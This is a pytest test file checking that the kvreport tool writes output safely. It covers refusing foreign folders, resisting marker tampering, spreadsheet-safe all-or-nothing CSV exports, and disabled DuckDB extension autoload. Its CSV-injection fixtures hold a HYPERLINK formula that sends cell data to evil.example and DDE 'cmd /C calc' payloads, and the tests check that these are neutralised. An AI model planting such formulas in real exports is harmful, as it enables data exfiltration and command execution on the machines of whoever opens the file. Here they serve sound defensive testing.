"""Issue 25, what kvreport writes: `build --out` never touches a folder that is not a kvreport site, exports
and site CSVs are spreadsheet-safe and all-or-nothing, scratch folders a killed process left are cleaned,
and no DuckDB connection loads an extension by itself."""
from __future__ import annotations

import ast
import csv
import hashlib
import io
import os
import subprocess
import sys
from pathlib import Path

import pytest

from conftest import cli_process as _cli, write_payload_db
from hostile_disk import tiny_disk

ROOT = Path(__file__).resolve().parent.parent


def _tree(root: Path) -> dict[str, str]:
    return {str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(root.rglob("*")) if p.is_file()}


def _one_clear_line(r) -> str:
    err = r.stderr.strip()
    assert r.returncode != 0 and len(err.splitlines()) == 1, err
    assert "Traceback" not in err and "internal error" not in err, err
    return err


@pytest.fixture(scope="module")
def db(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("hostile-out") / "k.duckdb"
    write_payload_db(path)
    return path


# ---------------------------------------------------------------------------------------------------
# build --out

def test_build_refuses_a_folder_that_is_not_a_kvreport_site(db, tmp_path):
    home = tmp_path / "home"
    (home / "data").mkdir(parents=True)
    (home / "data" / "thesis.csv").write_text("mine\n")
    (home / "assets").mkdir()
    (home / "notes.html").write_text("<p>mine</p>")
    before = _tree(home)
    r = _cli("build", "--db", db, "--out", home)
    err = _one_clear_line(r)
    assert str(home) in err and "notes.html" in err and "not a site kvreport built" in err
    assert _tree(home) == before
    assert not list(tmp_path.glob(".kvreport-*"))  # nothing staged beside it either


@pytest.mark.slow
def test_build_into_empty_or_own_site_keeps_files_it_did_not_write(db, tmp_path):
    from kvreport.analysis.site import build_site
    from kvreport.analysis.site.spec import BuildError

    out = tmp_path / "site"
    out.mkdir()
    build_site(db, out)  # an empty folder is fine
    (out / "README.md").write_text("keep me")
    (out / "CNAME").write_text("example.org")
    pages = sorted(p.name for p in out.glob("*.html"))
    build_site(db, out)  # a site of ours is replaced, what we did not write stays
    assert (out / "README.md").read_text() == "keep me" and (out / "CNAME").read_text() == "example.org"
    assert sorted(p.name for p in out.glob("*.html")) == pages
    # A file in the way of the next build that no build wrote: refused, not overwritten.
    (out / "index.html").unlink()
    marker = out / ".kvreport-site"
    marker.write_text(marker.read_text().replace('"index.html",', ""))
    (out / "index.html").write_text("my own index")
    with pytest.raises(BuildError, match="index.html already there and not written by a kvreport build"):
        build_site(db, out)
    assert (out / "index.html").read_text() == "my own index"


@pytest.mark.slow
def test_a_tampered_marker_cannot_point_the_build_at_other_files(db, tmp_path):
    from kvreport.analysis.site import build_site

    out = tmp_path / "site"
    build_site(db, out)
    (out / "README.md").write_text("precious")
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    marker = out / ".kvreport-site"
    marker.write_text(marker.read_text().replace('"entries": [', '"entries": [".", "../victim.txt", '))
    build_site(db, out)
    assert victim.read_text() == "precious" and (out / "README.md").read_text() == "precious"


@pytest.mark.slow
def test_stale_scratch_folders_of_dead_processes_are_removed_and_live_ones_kept(db, tmp_path):
    from kvreport.analysis.site import build_site

    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True,
                          text=True).stdout.strip()
    stale = tmp_path / f".kvreport-build-{dead}-abc123"
    (stale / "data").mkdir(parents=True)
    (stale / "data" / "kvreport.duckdb").write_bytes(b"x" * 100)
    live = tmp_path / f".kvreport-build-{os.getppid()}-abc123"  # our parent runs: not ours to remove
    live.mkdir()
    other = tmp_path / ".kvreport-build-notapid"
    other.mkdir()
    build_site(db, tmp_path / "site")
    assert not stale.exists() and live.exists() and other.exists()


# ---------------------------------------------------------------------------------------------------
# CSV injection

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture(scope="module")
def formula_db(tmp_path_factory) -> Path:
    import duckdb

    path = tmp_path_factory.mktemp("formula") / "f.duckdb"
    write_payload_db(path)
    con = duckdb.connect(str(path))
    con.execute("UPDATE runs SET label = ?, device_name = ?, os = ?, cpu = ?",
                [FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "bell\x07nul\x00end"])
    con.close()
    return path


def _all_cells(folder: Path) -> list[str]:
    cells = []
    for f in sorted(folder.rglob("*.csv")):
        cells += [c for row in csv.reader(io.StringIO(f.read_text(encoding="utf-8"))) for c in row]
    return cells


def _assert_spreadsheet_safe(cells: list[str]):
    assert cells
    bad = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _number(c))]
    assert not bad, bad[:5]
    assert not [c for c in cells if any(ch in c for ch in "\x00\x07")]
    assert "'" + FORMULA in cells and "bell\\x07nul\\x00end" in cells


def _number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


@pytest.mark.slow
def test_export_csv_cells_are_spreadsheet_safe_and_numbers_stay_numbers(formula_db, tmp_path):
    r = _cli("export", "--db", formula_db, "--out", tmp_path / "x")
    assert r.returncode == 0, r.stderr
    _assert_spreadsheet_safe(_all_cells(tmp_path / "x"))
    rows = list(csv.DictReader(io.StringIO((tmp_path / "x" / "runs.csv").read_text(encoding="utf-8"))))
    assert rows[0]["os"] == "'-2+3+cmd|' /C calc'!A0"
    assert rows[0]["cpu_count"] == "2"  # an integer column is written as the number


@pytest.mark.slow
def test_site_csvs_are_spreadsheet_safe(formula_db, tmp_path):
    from kvreport.analysis.site import build_site

    build_site(formula_db, tmp_path / "site")
    cells = _all_cells(tmp_path / "site" / "data")
    _assert_spreadsheet_safe(cells)


def test_csv_cell_rules():
    from kvreport.analysis.site.export import csv_value
    from kvreport.runner.core.csv_cells import csv_safe_text

    assert csv_value(-5) == "-5" and csv_value(-0.5) == "-0.5"  # numbers are never prefixed
    assert csv_safe_text("-5") == "-5" and csv_safe_text("+1.5e3") == "+1.5e3"  # nor text that is a number
    for s in ("=1+1", "+cmd", "-cmd", "@SUM(A1)", "\tx", "\rx"):
        assert csv_safe_text(s) == "'" + s
    assert csv_safe_text("a\x00b\x1b") == "a\\x00b\\x1b" and csv_safe_text("a\nb\tc") == "a\nb\tc"


# ---------------------------------------------------------------------------------------------------
# export is all or nothing

def test_export_onto_a_full_disk_is_one_line_and_leaves_nothing(formula_db, tmp_path):
    with tiny_disk(tmp_path / "disk", "96k") as disk:
        r = _cli("export", "--db", formula_db, "--out", disk / "x")
        err = _one_clear_line(r)
        assert str(disk / "x") in err and "No space left on device" in err, err
        assert list((disk / "x").iterdir()) == []  # no partial CSVs, no scratch folder


# ---------------------------------------------------------------------------------------------------
# DuckDB extensions

def test_every_duckdb_connection_goes_through_the_helper():
    """One helper opens DuckDB (with extension autoinstall and autoload off); no other code calls connect."""
    offenders = []
    for path in sorted(list((ROOT / "runner").rglob("*.py")) + list((ROOT / "analysis").rglob("*.py"))):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "connect" \
                    and isinstance(node.func.value, ast.Name) and node.func.value.id == "duckdb":
                offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert offenders == ["runner/core/connections.py:" + str(_helper_line())], offenders


def _helper_line() -> int:
    text = (ROOT / "runner" / "core" / "connections.py").read_text(encoding="utf-8").splitlines()
    return next(i for i, line in enumerate(text, 1) if "duckdb.connect(" in line)


def test_the_helper_turns_extension_autoload_and_autoinstall_off(tmp_path):
    from kvreport.runner.core.connections import connect

    for con in (connect(), connect(tmp_path / "x.duckdb")):
        got = con.execute("SELECT current_setting('autoload_known_extensions'), "
                          "current_setting('autoinstall_known_extensions')").fetchone()
        con.close()
        assert got == (False, False)


@pytest.mark.slow
def test_a_sqlite_file_as_db_is_one_line_and_no_network(tmp_path):
    import sqlite3

    lite = tmp_path / "lite.db"
    with sqlite3.connect(lite) as c:
        c.execute("CREATE TABLE t (x)")
    before = lite.read_bytes()
    # A proxy that refuses: any HTTP attempt would show in the message as a connection error.
    env = dict(os.environ, http_proxy="http://127.0.0.1:9", https_proxy="http://127.0.0.1:9")
    for args in (["findings", "--db", lite], ["build", "--db", lite, "--out", tmp_path / "s"],
                 ["export", "--db", lite, "--out", tmp_path / "e"], ["migrate", lite],
                 ["audit", ROOT / "tests" / "fixtures" / "audit" / "openai.jsonl", "--db", lite],
                 ["merge", lite, "--into", tmp_path / "m.duckdb"]):
        r = _cli(*args, env=env)
        err = _one_clear_line(r)
        assert "SQLite" in err and str(lite) in err, (args, err)
        assert "http" not in err.lower() and "extension" not in err.lower(), err
    assert lite.read_bytes() == before
    assert not (tmp_path / "m.duckdb").exists()
